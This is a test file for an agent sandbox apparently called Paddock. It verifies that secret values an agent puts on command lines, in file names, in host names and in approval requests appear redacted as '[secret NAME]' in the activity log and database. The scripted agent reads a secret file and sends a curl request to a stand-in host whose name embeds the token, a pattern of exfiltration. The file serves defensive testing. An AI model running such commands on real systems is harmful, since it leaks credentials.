/**
 * Attack pass G (black box), secrets in the activity log: an `env` or `file` secret's value passed on
 * a command line (`curl -H "Authorization: $TOKEN"`), used in a file name, a host name or an ask was
 * written in clear into the append-only log (`proc.exec` argv, `fs.change` path, `net.deny` host,
 * `approval.*` / `action.*` target and detail) and the approvals table, so `paddock events`, exports
 * and the activity feed showed it, and the log could not be cleaned without breaking its chain. The
 * recordings already showed `[secret NAME]`; the log now does too. One foreground run, no host
 * needed; the only network use is a request to the in-sandbox proxy that no rule allows (never dialled).
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { paddock } from '../helpers/cli.js';
import { events, leaks, suite } from './helpers.js';

const s = suite('atkg-sec');
afterAll(() => s.cleanup());
const env = { ...process.env, PADDOCK_VAULT_PASSPHRASE: 'attack pass g secret events passphrase' };

describe('secret values in what the agent makes Paddock log', { timeout: 90_000 }, () => {
  it('an env and a file secret on a command line, in a file name, a host and an ask are [secret NAME] in the log and the database', () => {
    const token = 'tokG7-Qx3vLm9Zr2Wp8K';
    const keyFile = 'fileG7-Hn4Tb6Yc1Vd5';
    const prog = [
      // A process that lives long enough for the exec sampler, its argv holding both values and a marker.
      'sh -c "sleep 2" keep-this-marker "$TOKEN" "$(cat ~/.secrets/KEYFILE)"',
      'touch "report-$TOKEN.txt"',
      'curl -s -o /dev/null --max-time 10 "http://$TOKEN.example.test/" || true',
      'paddock-ask "deploy-$TOKEN" "with key $(cat ~/.secrets/KEYFILE)" || true',
      // Positive control: the agent did get both values.
      'printf "got %s %s\\n" "$TOKEN" "$(cat ~/.secrets/KEYFILE)"',
      'sleep 0.5',
    ].join('; ');
    const { dataDir, file, name } = s.setup((n) => ({
      name: n,
      network: 'on',
      approvals: { timeout: 1 },
      secrets: [
        { name: 'TOKEN', as: 'env' },
        { name: 'KEYFILE', as: 'file' },
      ],
      command: ['bash', '-c', prog],
    }));
    expect(paddock(['--data-dir', dataDir, 'secret', 'set', name, 'TOKEN'], { input: `${token}\n`, env }).code).toBe(0);
    expect(paddock(['--data-dir', dataDir, 'secret', 'set', name, 'KEYFILE'], { input: `${keyFile}\n`, env }).code).toBe(0);

    const r = paddock(['--data-dir', dataDir, 'run', file], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`got ${token} ${keyFile}`);

    const evs = events(dataDir, name);
    const text = JSON.stringify(evs);
    const shown = paddock(['--data-dir', dataDir, 'events', '--agent', name], { env }).stdout;
    // The database file and its WAL (events, approvals table) hold neither value.
    const db = ['paddock.db', 'paddock.db-wal']
      .map((f) => join(dataDir, f))
      .filter((f) => existsSync(f))
      .map((f) => readFileSync(f).toString('latin1'))
      .join('\n');
    for (const t of [text, shown, db]) {
      expect(leaks(t, token)).toBeNull();
      expect(leaks(t, keyFile)).toBeNull();
    }

    // What was done is still on the record, with the values named.
    const exec = evs.filter((e) => e.kind === 'proc.exec').map((e) => e.argv as string[]);
    expect(exec).toContainEqual(['sh', '-c', 'sleep 2', 'keep-this-marker', '[secret TOKEN]', '[secret KEYFILE]']);
    expect(evs.some((e) => e.kind === 'fs.change' && String(e.path).endsWith('/report-[secret TOKEN].txt'))).toBe(true);
    expect(evs.some((e) => e.kind === 'net.deny' && e.host === '[secret TOKEN].example.test')).toBe(true);
    const ask = evs.find((e) => e.kind === 'approval.request');
    expect(ask).toMatchObject({ target: 'deploy-[secret TOKEN]', detail: 'with key [secret KEYFILE]' });
    expect(evs.some((e) => e.kind === 'action.deny' && e.action === 'deploy-[secret TOKEN]')).toBe(true);
    expect(paddock(['--data-dir', dataDir, 'log', 'verify'], { env }).code).toBe(0);
  });

  it('an agent without secrets keeps its command lines and file names as they are (control)', () => {
    const { dataDir, file, name } = s.setup((n) => ({ name: n, command: ['bash', '-c', 'sh -c "sleep 2" plain-arg-tokG7; touch plain-file.txt; sleep 0.5'] }));
    expect(paddock(['--data-dir', dataDir, 'run', file], { env }).code).toBe(0);
    const evs = events(dataDir, name);
    expect(evs.map((e) => e.argv)).toContainEqual(['sh', '-c', 'sleep 2', 'plain-arg-tokG7']);
    expect(evs.some((e) => e.kind === 'fs.change' && String(e.path).endsWith('/plain-file.txt'))).toBe(true);
  });
});
